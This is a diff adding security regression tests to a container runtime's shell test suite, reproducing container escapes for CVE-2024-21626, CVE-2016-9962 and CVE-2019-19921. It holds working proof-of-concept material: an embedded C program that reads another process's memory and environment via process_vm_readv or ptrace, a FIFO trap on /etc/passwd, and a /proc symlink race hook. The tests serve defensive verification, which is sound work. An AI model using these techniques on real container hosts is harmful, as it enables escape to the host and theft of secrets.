@@ -74,9 +74,10 @@ test_cve_2024_21626_exec_path_leaked_fd() {
 	local id b bb
 	_host_secret
 	bb=$(e2e_busybox) || skip "no static busybox"
-	cp "$bb" "$TD/host/hostbin"
+	# busybox runs the applet its name says: "echo"
+	cp "$bb" "$TD/host/echo"
 	id=$(new_id)
-	b=$(mkb "$id" /proc/self/fd/9/hostbin echo ran-host-binary)
+	b=$(mkb "$id" /proc/self/fd/9/echo ran-host-binary)
 	cap rt run --bundle "$b" "$id" 9<"$TD/host"
 	[[ $OUT != *ran-host-binary* ]] || fail "$(ctx "the container ran a host binary through a leaked fd")"
 	[ "$RC" != 0 ] || fail "$(ctx "args[0] = /proc/self/fd/9/... was accepted")"
@@ -85,7 +86,7 @@ test_cve_2024_21626_exec_path_leaked_fd() {
 	b=$(C_READONLY=false mkb "$id" sh -c 'touch /mnt/ready; exec sleep 60')
 	cap rt run -d --bundle "$b" "$id"
 	expect_ok "run -d"
-	cap rt exec "$id" /proc/self/fd/9/hostbin echo ran-host-binary 9<"$TD/host"
+	cap rt exec "$id" /proc/self/fd/9/echo ran-host-binary 9<"$TD/host"
 	[[ $OUT != *ran-host-binary* ]] || fail "$(ctx "exec ran a host binary through a leaked fd")"
 	cap rt delete -f "$id"
 }
@@ -109,4 +110,215 @@ test_cve_2024_21626_no_fd_leak_to_process() {
 	expect_ok "exec"
 	expect_eq "$(echo $OUT)" "0 1 2 3 4" "fds of the exec process with --preserve-fds 1 (4: ls's own)"
 	cap rt delete -f "$id"
+}
+
+# ---------------------------------------------------------- CVE-2016-9962 ---
+
+# A created (not started) container: a process exec'd into it, with the same
+# user and capabilities as the container's own process, goes through
+# /proc/1/fd of the waiting init. No fd there may lead to the host's /proc
+# (the runner's pid shows up there); with kiln none may be open at all (not
+# even exec.fifo, the runtime's state).
+test_cve_2016_9962_created_init_fds() {
+	local id b
+	id=$(new_id)
+	b=$(mkb "$id" sh -c 'echo started > /mnt/started')
+	cap rt create --bundle "$b" "$id"
+	expect_ok "create"
+	cap rt exec "$id" sh -c '
+		for f in /proc/1/fd/*; do
+			t=$(readlink "$f") || continue
+			echo "REACHED fd ${f##*/} -> $t"
+			[ -d "$f" ] && ls "$f/../.." 2>/dev/null | grep -qx '"$E2E_RUNID"' && echo "REACHED the host /proc through $f"
+		done
+		cat /proc/1/environ >/dev/null 2>&1 && echo "REACHED /proc/1/environ"
+		true'
+	expect_ok "exec into the created container"
+	[[ $OUT != *"REACHED the host"* ]] || fail "$(ctx "a container process reached the host through the waiting init's fds")"
+	# runc 1.1.5's waiting init is dumpable (without a user namespace): its
+	# stdio, exec.fifo and epoll fds are open to the container. kiln's is not.
+	[ "$RT_NAME" != kiln ] || [[ $OUT != *REACHED* ]] || fail "$(ctx "a container process reached the waiting init's fds")"
+	cap rt start "$id"
+	expect_ok "start"
+	wait_file "$b/share/started"
+	cap rt delete -f "$id"
+}
+
+# userns config: container root is host uid 100000.
+_userns_bundle() {
+	local id=$1 b
+	shift
+	b=$(C_NS="$DEFAULT_NS,{\"type\":\"user\"}" mkb "$id" "$@")
+	sed -i 's|"linux": {|"linux": {\n\t\t"uidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}],\n\t\t"gidMappings": [{"containerID": 0, "hostID": 100000, "size": 65536}],|' "$b/config.json"
+	echo "$b"
+}
+
+# The attacker of test_cve_2016_9962_exec_process: reads the environment of
+# process PID straight from its memory (process_vm_readv: ptrace access is all
+# it takes, no /proc file permission), else tries to ptrace it.
+PEEK_C='
+#define _GNU_SOURCE
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/uio.h>
+int main(int argc, char **argv) {
+	char path[64], st[4096];
+	unsigned long start = 0, end = 0;
+	snprintf(path, sizeof path, "/proc/%s/stat", argv[1]);
+	FILE *f = fopen(path, "r");
+	size_t n = f ? fread(st, 1, sizeof st - 1, f) : 0;
+	st[n] = 0;
+	char *p = strrchr(st, 41);
+	for (int field = 3; p && *p; field++) {
+		p = strchr(p + 1, 32);
+		if (!p) break;
+		if (field == 49) start = strtoul(p + 1, NULL, 10);
+		if (field == 50) end = strtoul(p + 1, NULL, 10);
+	}
+	pid_t pid = atoi(argv[1]);
+	if (start && end > start) {
+		static char buf[65536];
+		size_t len = end - start < sizeof buf ? end - start : sizeof buf;
+		struct iovec l = {buf, len}, r = {(void *)start, len};
+		ssize_t got = process_vm_readv(pid, &l, 1, &r, 1, 0);
+		if (got > 0) {
+			for (ssize_t i = 0; i < got; i++) putchar(buf[i] ? buf[i] : 10);
+			return 0;
+		}
+		perror("process_vm_readv");
+	} else {
+		printf("no environment address in /proc/%s/stat\n", argv[1]);
+	}
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+		puts("REACHED: ptrace attached to the exec process");
+		return 0;
+	}
+	perror("ptrace");
+	return 1;
+}
+'
+
+# The original CVE: the container's pid 1 (root of a user namespace, with
+# CAP_SYS_PTRACE there) attacks the runtime's `exec` process while it sets
+# up inside the container's namespaces, still host root with full
+# capabilities. The attacker stalls it on a FIFO at /etc/passwd (the user
+# lookup reads it), finds it in /proc and reads its environment from its
+# memory: the host environment of the `exec` command (with a secret here).
+test_cve_2016_9962_exec_process() {
+	local id b rootfs secret cc
+	cc=$(command -v cc || command -v gcc || true)
+	[ -n "$cc" ] || skip "no C compiler for the attacker program"
+	rootfs=$TD/rootfs
+	make_rootfs "$rootfs"
+	printf '%s\n' "$PEEK_C" >"$TD/peek.c"
+	"$cc" -static -O2 -o "$rootfs/peek" "$TD/peek.c" 2>"$TD/cc.err" ||
+		skip "cannot build a static attacker: $(head -c 200 "$TD/cc.err")"
+	chown -R 100000:100000 "$rootfs/etc"
+	secret="exec-env-secret-$RANDOM"
+	id=$(new_id)
+	b=$(C_ROOTFS=$rootfs C_READONLY=false C_CAPS="$DEFAULT_CAPS,\"CAP_SYS_PTRACE\"" _userns_bundle "$id" sh -c '
+		rm -f /etc/passwd && mkfifo -m 666 /etc/passwd || exit 1
+		touch /mnt/ready
+		i=0
+		while [ $i -lt 600 ]; do
+			for s in /proc/[0-9]*/status; do
+				p=${s%/status}; p=${p#/proc/}
+				[ "$p" = 1 ] && continue
+				grep -q "^PPid:[[:space:]]*0$" "$s" 2>/dev/null || continue
+				sleep 0.2
+				/peek $p >/mnt/peek 2>&1
+				grep -q "^KILN_TEST_SECRET=" /mnt/peek && echo "REACHED the environment of the exec process" >>/mnt/result
+				cat /mnt/peek >>/mnt/result
+				echo "probed $p" >>/mnt/result
+				echo "root:x:0:0:root:/root:/bin/sh" >/etc/passwd
+				exec sleep 60
+			done
+			i=$((i + 1))
+			sleep 0.05
+		done
+		echo "no exec process seen" >>/mnt/result
+		exec sleep 60')
+	chown 100000:100000 "$b/share"
+	cap rt run -d --bundle "$b" "$id"
+	[ "$RC" = 0 ] || skip "$(ctx "user namespace containers do not run here")"
+	wait_file "$b/share/ready"
+	KILN_TEST_SECRET=$secret rt exec "$id" true >"$TD/exec.out" 2>&1 &
+	note_pid $!
+	poll 20 grep -qs "probed\|no exec" "$b/share/result" || fail "the attacker did not finish: $(cat "$b/share/result" 2>&1)"
+	echo "attacker's log:" >&2
+	cat "$b/share/result" >&2
+	grep -q "^probed" "$b/share/result" || fail "no exec process was seen from inside: $(cat "$b/share/result")"
+	! grep -q REACHED "$b/share/result" || fail "the container got at the exec process: $(grep -e REACHED -e SECRET "$b/share/result" | tr '\n' ' ')"
+	wait
+	cap rt delete -f "$id"
+}
+
+# -------------------------------------------------------- CVE-2019-19921 ---
+
+# The image makes /proc a symlink into a directory that another container
+# shares (emulated here by a createRuntime hook on the host, which runs
+# after the mounts and before the masked and read-only paths are applied:
+# the moment the original attack races for). The procfs mount follows the
+# symlink; the hook renames the directory it landed in and puts an empty one
+# in its place; the masks then miss the real procfs, which the container
+# finds at its new name with /proc/sys writable and /proc/timer_list open.
+test_cve_2019_19921_proc_symlink() {
+	local id b rootfs hook
+	rootfs=$TD/rootfs
+	make_rootfs "$rootfs"
+	rm -rf "$rootfs/proc"
+	mkdir -p "$rootfs/vol/p"
+	ln -s /vol/p "$rootfs/proc"
+	id=$(new_id)
+	b=$(C_ROOTFS=$rootfs mkb "$id" sh -c '
+		for d in /vol2/p /vol/p /proc; do
+			[ -s $d/timer_list ] && echo "UNMASKED $d/timer_list"
+			echo evil 2>/dev/null >$d/sys/kernel/hostname && echo "WRITABLE $d/sys"
+		done
+		true')
+	hook="mv $rootfs/vol $rootfs/vol2; mkdir -p $rootfs/vol/p"
+	sed -i "0,/{/s|{|{ \"hooks\": { \"createRuntime\": [{\"path\": \"/bin/sh\", \"args\": [\"sh\", \"-c\", \"$hook\"]}] },|" "$b/config.json"
+	cap rt run --bundle "$b" "$id"
+	[[ $OUT != *UNMASKED* && $OUT != *WRITABLE* ]] || fail "$(ctx "procfs mounted through a symlink escaped the masks")"
+	[ "$RC" != 0 ] || fail "$(ctx "a symlinked /proc was accepted")"
+	expect_err_has "must be mounted on ordinary directory"
+	[ "$RT_NAME" != kiln ] || expect_err_has "mount /proc"
+	rt delete -f "$id" >/dev/null 2>&1
+	assert_clean "$id"
+}
+
+# A volume over /proc, or inside it, hides or replaces what the runtime and
+# the masks rely on (the LSM label is written to /proc/self/attr): refused,
+# also when a symlink in the rootfs leads the mount there. lxcfs-style files
+# (/proc/uptime, ...) stay allowed.
+test_cve_2019_19921_mount_over_proc() {
+	local id b rootfs m
+	rootfs=$TD/rootfs
+	make_rootfs "$rootfs"
+	ln -s /proc "$rootfs/data"
+	ln -s /proc/sys/kernel "$rootfs/kdata"
+	mkdir -p "$TD/fake/self/attr" "$TD/fake/sys"
+	echo 1234 >"$TD/fake/uptime"
+	for m in "/proc bind" "/data bind" "/kdata bind" "/data/sys ramfs"; do
+		set -- $m
+		id=$(new_id)
+		if [ "$2" = bind ]; then
+			b=$(C_ROOTFS=$rootfs C_MOUNTS="{\"destination\": \"$1\", \"type\": \"bind\", \"source\": \"$TD/fake\", \"options\": [\"rbind\"]}" mkb "$id" sh -c 'ls /proc/self/attr /proc/sys; true')
+		else
+			b=$(C_ROOTFS=$rootfs C_MOUNTS="{\"destination\": \"$1\", \"type\": \"$2\", \"source\": \"$2\"}" mkb "$id" true)
+		fi
+		cap rt run --bundle "$b" "$id"
+		[ "$RC" != 0 ] || fail "$(ctx "a $2 mount at $1 (inside /proc) was accepted")"
+		expect_err_has "/proc"
+		[ "$RT_NAME" != kiln ] || expect_err_has "mount $1"
+		rt delete -f "$id" >/dev/null 2>&1
+		assert_clean "$id"
+	done
+	id=$(new_id)
+	b=$(C_ROOTFS=$rootfs C_MOUNTS="{\"destination\": \"/proc/uptime\", \"type\": \"bind\", \"source\": \"$TD/fake/uptime\", \"options\": [\"bind\"]}" mkb "$id" cat /proc/uptime)
+	cap rt run --bundle "$b" "$id"
+	expect_ok "a bind over /proc/uptime (lxcfs)"
+	expect_out_eq 1234
 }
